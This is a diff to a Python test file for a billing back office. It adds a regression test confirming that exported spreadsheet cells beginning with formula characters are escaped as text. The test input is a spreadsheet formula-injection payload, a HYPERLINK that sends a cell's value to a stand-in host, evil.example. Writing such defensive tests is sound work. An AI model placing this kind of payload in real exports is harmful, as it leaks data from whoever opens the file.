@@ -32,7 +32,7 @@ def test_a_report_is_marked_by_the_first_email_that_carried_it():
     report.refresh_from_db()
     assert (report.reported_email_id, report.reported_at) == (first.pk, _sent_at(20))
     assert Order.objects.get(pk=report.order_id).reported_at == _sent_at(20)
-    [event] = OrderEvent.objects.filter(order=report.order, kind=OrderEvent.Kind.REPORTED)
+    [event] = OrderEvent.objects.filter(order_id=report.order_id, kind=OrderEvent.Kind.REPORTED)
     assert (event.email_id, event.text) == (first.pk, str(report))
 
 
@@ -119,3 +119,19 @@ def test_the_ready_to_bill_list_shows_only_reported_orders(backoffice):
 
     assert "Facturable" in page and "Pas encore" not in page
     assert reverse("admin:orders_orderreadytobill_export") in page
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_would_be_a_formula_is_written_as_text(backoffice, start):
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A2,"Rapport")'
+    report = WorkReportFactory(order=OrderFactory(title=attack))
+    WorkReportLineFactory(report=report, hours=Decimal("-1.50"))
+    email = outgoing_email_create(order=report.order, subject=attack.replace("\r", ""), enqueue=False)
+    work_reports_mark_reported(report_ids=[report.pk], email_id=email.pk, sent_at=_sent_at(20))
+
+    _header, line = _rows(backoffice.get(reverse("admin:orders_orderreadytobill_export")))
+
+    assert line[1] == "'" + attack
+    assert line[8] == ("'" + attack if start != "\r" else attack.replace("\r", ""))
+    # Numbers stay numbers, negative ones included.
+    assert Decimal(line[5]) == Decimal("-1.50")
